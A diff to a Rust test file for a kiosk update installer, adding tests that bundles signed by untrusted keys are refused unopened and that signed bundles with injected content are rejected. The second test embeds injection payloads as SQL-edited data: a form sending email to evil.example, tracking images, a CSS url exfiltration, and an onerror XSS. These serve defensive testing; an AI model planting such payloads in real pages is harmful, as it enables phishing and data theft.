@@ -11,6 +11,9 @@ use kiosk_updates::accept::{Policy, Rejection};
 use kiosk_updates::sign::{generate_keypair, parse_public_key, sign, signature_path, trusted_comment};
 use kiosk_updates::store::{BundleStore, Outcome, StoreError};
 
+#[path = "updates/hostile_server.rs"]
+mod hostile_server;
+
 struct Key {
     public: String,
     secret: String,
@@ -303,4 +306,136 @@ async fn an_https_update_is_polled_resumed_after_a_cut_and_installed() {
     let err = remote.poll(&Policy { max_bytes: 1024, ..policy.clone() }, 11).await.unwrap_err();
     assert!(err.to_string().contains("limit"), "{err}");
     assert_eq!(server.served.large_bytes.load(Relaxed), before, "no download over the cap");
+}
+
+/// Names of the files in the store that are install work in progress.
+fn staging_files(store: &BundleStore) -> Vec<String> {
+    std::fs::read_dir(store.dir())
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with(".incoming"))
+        .collect()
+}
+
+/// Issue #15 item 10: a stranger's bundle is refused from its `.minisig`
+/// alone — its bytes are never opened, let alone copied into the store.
+#[test]
+fn an_untrusted_signer_is_refused_before_the_bundle_is_opened() {
+    let dir = tempfile::tempdir().unwrap();
+    let (k, stranger) = (key(), key());
+    let store = installed_v10(dir.path(), &k);
+    let stranger_id = {
+        let sig = sign(&stranger.secret, None, &b"anything"[..], &trusted_comment(11, "stable")).unwrap();
+        let sig = minisign::SignatureBox::from_string(&sig).unwrap();
+        kiosk_updates::sign::key_id(sig.keynum())
+    };
+    let inbox = dir.path().join("inbox");
+    std::fs::create_dir_all(&inbox).unwrap();
+
+    // A "huge" bundle (sparse: 256 MiB that cost no disk), signed by the stranger.
+    let huge = inbox.join("huge.kbundle");
+    std::fs::File::create(&huge).unwrap().set_len(256 << 20).unwrap();
+    let sig = sign(&stranger.secret, None, &b"not even this file"[..], &trusted_comment(11, "stable")).unwrap();
+    std::fs::write(signature_path(&huge), sig).unwrap();
+    let roomy = Policy { max_bytes: 1 << 30, ..policy(&k) };
+    let mut copied = 0u64;
+    let before = store.state().unwrap();
+    let Outcome::Rejected(r) =
+        store.install_with_progress(&huge, &roomy, 0, "inbox", &mut |done, _| copied = copied.max(done)).unwrap()
+    else {
+        panic!("a stranger's bundle must be refused")
+    };
+    assert_eq!(r.code(), "untrusted_key", "{r}");
+    assert!(r.to_string().contains(&stranger_id), "the refusal names the untrusted key {stranger_id}: {r}");
+    assert_eq!(copied, 0, "not a byte of a stranger's bundle is copied into the store");
+    assert!(staging_files(&store).is_empty(), "no staging file: {:?}", staging_files(&store));
+    assert_eq!(store.state().unwrap(), before);
+
+    // Proof that the bundle itself is never even opened: a FIFO, whose opening
+    // for reading would wake a writer waiting on the other end.
+    let fifo = inbox.join("fifo.kbundle");
+    let made = std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
+    assert!(made.success(), "mkfifo");
+    let sig = sign(&stranger.secret, None, &b"x"[..], &trusted_comment(11, "stable")).unwrap();
+    std::fs::write(signature_path(&fifo), sig).unwrap();
+    let opened = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let writer = {
+        let (fifo, opened) = (fifo.clone(), opened.clone());
+        // Blocks in open() until someone opens the FIFO for reading; then says so
+        // and closes it, so a reader that opened it sees an empty file and goes on.
+        std::thread::spawn(move || {
+            let f = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
+            opened.store(true, std::sync::atomic::Ordering::SeqCst);
+            drop(f);
+        })
+    };
+    let Outcome::Rejected(r) = store.install(&fifo, &roomy, 0, "inbox").unwrap() else {
+        panic!("a stranger's bundle must be refused")
+    };
+    // Whoever opened the FIFO for reading read from it until the writer closed it,
+    // and the writer sets the flag before closing: so the flag is already set if it was opened.
+    assert!(!opened.load(std::sync::atomic::Ordering::SeqCst), "the untrusted bundle must not be opened at all");
+    assert_eq!(r.code(), "untrusted_key", "{r}");
+    assert!(r.to_string().contains(&stranger_id), "{r}");
+    assert!(staging_files(&store).is_empty(), "no staging file: {:?}", staging_files(&store));
+    // Release the writer (opening for reading ourselves) so the thread ends.
+    drop(std::fs::File::open(&fifo).unwrap());
+    writer.join().unwrap();
+
+    // Nor can a `.minisig` that is a FIFO (which would block whoever opens it) hold the installer.
+    let odd = inbox.join("odd.kbundle");
+    std::fs::write(&odd, b"whatever").unwrap();
+    let made = std::process::Command::new("mkfifo").arg(signature_path(&odd)).status().unwrap();
+    assert!(made.success(), "mkfifo");
+    let Outcome::Rejected(r) = store.install(&odd, &roomy, 0, "inbox").unwrap() else { panic!("refused") };
+    assert_eq!(r.code(), "malformed_signature", "{r}");
+}
+
+/// Issue #15 item 11: a bundle made or edited by another tool and then signed
+/// by a trusted key cannot make the kiosk render what its own build never
+/// would: HTML its sanitiser changes, or a theme value that is not a colour.
+#[test]
+fn a_signed_bundle_with_html_or_theme_the_kiosk_would_not_make_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let k = key();
+    let store = installed_v10(dir.path(), &k);
+    let section: String = {
+        let b = build(dir.path(), "probe.kbundle", 11, "stable");
+        let conn = rusqlite::Connection::open(&b).unwrap();
+        conn.query_row("SELECT section_id FROM section_texts ORDER BY section_id LIMIT 1", [], |r| r.get(0)).unwrap()
+    };
+    let edits = [
+        ("<style>", format!("UPDATE section_texts SET html = html || '<style>body{{display:none}}</style>' WHERE section_id = '{section}'")),
+        ("<form>", format!("UPDATE section_texts SET html = '<form action=\"https://evil.example/\"><input name=\"email\"></form>' || html WHERE section_id = '{section}'")),
+        ("<img>", format!("UPDATE section_texts SET html = html || '<img src=\"https://evil.example/t.png\">' WHERE section_id = '{section}'")),
+        (
+            "an event's <img>",
+            "UPDATE event_texts SET description_html = '<img src=x onerror=\"alert(1)\">' WHERE event_id = (SELECT min(event_id) FROM event_texts)".to_string(),
+        ),
+        ("theme CSS", "UPDATE settings SET value = json_set(value, '$.primary', 'red;background:url(https://evil.example/x)') WHERE key = 'theme'".to_string()),
+    ];
+    for (i, (what, sql)) in edits.iter().enumerate() {
+        let b = build(dir.path(), &format!("edited{i}.kbundle"), 11, "stable");
+        let conn = rusqlite::Connection::open(&b).unwrap();
+        assert!(conn.execute(sql, []).unwrap() >= 1, "{what}: the edit changed a row");
+        drop(conn);
+        sign_as(&k, &b, 11, "stable"); // signed after the edit: the signature is good
+        let r = assert_refused(&store, &b, &policy(&k), "unsafe_content");
+        let says = r.to_string();
+        if what.starts_with('<') {
+            assert!(says.contains(&format!("section `{section}`")), "{what}: the refusal names the section: {says}");
+        } else if what.starts_with("theme") {
+            assert!(says.contains("theme.primary"), "{what}: the refusal names the theme value: {says}");
+        } else {
+            assert!(says.contains("event `"), "{what}: the refusal names the event: {says}");
+        }
+    }
+    // The same bundle as the kiosk's build makes it is accepted.
+    let b = build(dir.path(), "clean.kbundle", 11, "stable");
+    sign_as(&k, &b, 11, "stable");
+    let Outcome::Installed(i) = store.install(&b, &policy(&k), 0, "test").unwrap() else {
+        panic!("a bundle as kioskctl builds it must be accepted")
+    };
+    assert_eq!(i.version, 11);
 }
